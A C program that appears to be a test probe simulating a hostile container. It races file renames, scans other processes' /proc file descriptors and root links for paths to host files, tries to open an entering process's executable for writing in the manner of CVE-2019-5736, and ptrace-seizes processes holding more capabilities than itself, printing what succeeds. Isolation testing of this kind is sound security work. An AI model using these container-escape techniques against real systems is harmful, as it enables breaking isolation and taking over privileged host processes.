/*
 * What a hostile container does; it goes on until it is killed.
 *
 *   attack exchange A B      swaps two names, again and again
 *   attack lurk PATH TEXT    looks into every other process, as it enters the container, for a way to the host's PATH
 *                            that reads TEXT, or to its program's file; prints what it finds
 *   attack seize . .         traces every other process, for one that may do more than it may itself
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void try_path(const char *base, const char *path, const char *text)
{
	char name[4096], read_text[64];
	snprintf(name, sizeof(name), "%s/../../../../../../../../../../%s", base, path);
	int fd = open(name, O_RDONLY | O_NONBLOCK);
	ssize_t size = fd < 0 ? 0 : read(fd, read_text, sizeof(read_text) - 1);

	if (fd >= 0)
		close(fd);
	read_text[size > 0 ? size : 0] = 0;
	if (strstr(read_text, text))
		printf("escaped by %s\n", name);
}

static void look_into(const char *pid, const char *path, const char *text)
{
	char name[4096];

	for (int fd = 0; fd < 40; fd++) {
		snprintf(name, sizeof(name), "/proc/%s/fd/%d", pid, fd);
		try_path(name, path, text);
	}
	for (int i = 0; i < 2; i++) {
		snprintf(name, sizeof(name), "/proc/%s/%s", pid, i ? "cwd" : "root");
		try_path(name, path, text);
	}
	snprintf(name, sizeof(name), "/proc/%s/exe", pid);
	int fd = open(name, O_PATH);
	if (fd >= 0) {
		char target[256] = "";

		/* Not a program of the image, but the one that entered: what CVE-2019-5736 overwrote. */
		snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
		readlink(name, target, sizeof(target) - 1);
		int writable = open(name, O_WRONLY);
		if (writable >= 0 && strncmp(target, "/bin/", 5) != 0) /* those are the image's */
			printf("opened for writing: %s\n", target);
		if (strstr(target, "monitor") && access(target, F_OK) == 0)
			printf("a file of the host: %s\n", target);
		close(writable);
		close(fd);
	}
}

static unsigned long long capabilities_of(const char *pid)
{
	unsigned long long found = 0;
	char name[64], line[256];

	snprintf(name, sizeof(name), "/proc/%s/status", pid);
	FILE *file = fopen(name, "r");
	while (file && fgets(line, sizeof(line), file))
		sscanf(line, "CapEff: %llx", &found);
	if (file)
		fclose(file);
	return found;
}

static void seize(const char *pid)
{
	if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0))
		return;
	ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
	waitpid(atoi(pid), NULL, __WALL);
	/* Stopped it is, and would do whatever it is made to. */
	if (capabilities_of(pid) & ~capabilities_of("self"))
		printf("seized with capabilities %llx\n", capabilities_of(pid));
	else if (capabilities_of(pid))
		puts("seized");
	ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc != 4)
		return 2;
	for (puts("begins"); strcmp(argv[1], "exchange") == 0;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */))
			return 1;
	for (;;) {
		DIR *proc = opendir("/proc");

		for (struct dirent *entry; (entry = readdir(proc));)
			if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid()) {
				if (strcmp(argv[1], "seize") == 0)
					seize(entry->d_name);
				else
					look_into(entry->d_name, argv[2], argv[3]);
			}
		closedir(proc);
	}
}
